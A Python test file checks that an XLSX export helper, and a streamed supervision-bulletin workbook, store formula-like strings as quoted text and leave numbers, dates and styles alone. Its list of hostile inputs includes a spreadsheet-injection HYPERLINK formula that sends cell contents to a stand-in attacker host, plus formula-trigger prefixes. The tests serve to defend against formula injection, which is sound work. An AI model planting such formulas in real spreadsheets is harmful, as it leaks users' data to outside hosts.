"""Every XLSX export writes formula-like text as text: read the saved workbook back."""

from __future__ import annotations

from datetime import date
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from web.xlsx import append_row

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
    "+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
]


def _saved(book: Workbook) -> Workbook:
    out = BytesIO()
    book.save(out)
    return load_workbook(BytesIO(out.getvalue()))


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_stays_text(text):
    book = Workbook()
    sheet = book.active
    append_row(sheet, ["说明", text])
    cell = _saved(book).active["B1"]
    # openpyxl writes through lxml (python-docx depends on it), which keeps a CR as a
    # character reference: the text comes back exactly, and as text.
    assert cell.data_type == "s" and cell.value == text
    assert cell.quotePrefix


def test_numbers_and_plain_text_are_left_alone():
    book = Workbook()
    append_row(book.active, [-1, -2.5, 0, "普通文本", None, date(2026, 11, 2), "a=b"])
    append_row(book.active, ())
    append_row(book.active, ["=1"])
    sheet = _saved(book).active
    row = sheet[1]
    assert [c.data_type for c in row[:4]] == ["n", "n", "n", "s"]
    assert [c.value for c in row[:4]] == [-1, -2.5, 0, "普通文本"]
    assert row[4].value is None and row[5].is_date and row[6].value == "a=b"
    assert not any(c.quotePrefix for c in row)
    assert sheet["A2"].value is None  # the empty row stays a row
    assert sheet["A3"].data_type == "s" and sheet["A3"].value == "=1"


def test_the_streamed_bulletin_workbook_keeps_text_styles_and_rates() -> None:
    # The bulletin is written in write-only mode (rows streamed, none kept): hostile text
    # still lands as text, the heads are bold and the rates keep their percent format.
    from web.bulletin_export import render_xlsx

    row = {
        "rank": 1,
        "unit_id": 1,
        "unit_code": "A",
        "unit_name": HOSTILE[0],
        "role": "lead",
        "assigned": 2,
        "closed_in_period": 1,
        "closed_on_time": 1,
        "closed_late": 0,
        "open_overdue": 1,
        "overdue": 1,
        "extensions": 0,
        "on_time_rate": 0.5,
    }
    late = {
        "ref": "+1",
        "title": "@SUM(1)",
        "unit_name": "甲",
        "due_on": "2026-11-03",
        "days_overdue": 4,
        "closed_late": False,
        "role_label": "主办",
    }
    data = {
        "version": 2,
        "period": "2026-11",
        "period_label": "2026年11月",
        "as_of": "2026-11-30",
        "rows": [row],
        "unranked": [],
        "totals": {
            "assigned": 2,
            "closed_in_period": 1,
            "closed_on_time": 1,
            "overdue": 1,
            "extensions": 0,
            "on_time_rate": None,
        },
        "praised_units": [],
        "urged_units": ["甲"],
        "urged": [{"unit_name": "甲", "overdue": 1, "days_overdue": 4, "items": [late]}],
        "overdue_items": [late],
    }
    book = load_workbook(BytesIO(render_xlsx(data, office_name="某市")))
    sheet = book["通报"]
    assert sheet["A1"].value == "某市督查通报" and sheet["A1"].font.b
    cells = {c.value: c for r in sheet.iter_rows() for c in r if c.value is not None}
    assert cells[HOSTILE[0]].data_type == "s"
    assert cells["排名"].font.b and cells[0.5].number_format == "0.0%"
    assert cells["合计"].font.b and "—" in cells
    listed = [[c.value for c in r] for r in book["逾期事项"].iter_rows()]
    assert listed[1][:2] == ["+1", "@SUM(1)"]
    ref, title, *_ = next(book["逾期事项"].iter_rows(min_row=2))
    assert ref.data_type == title.data_type == "s"
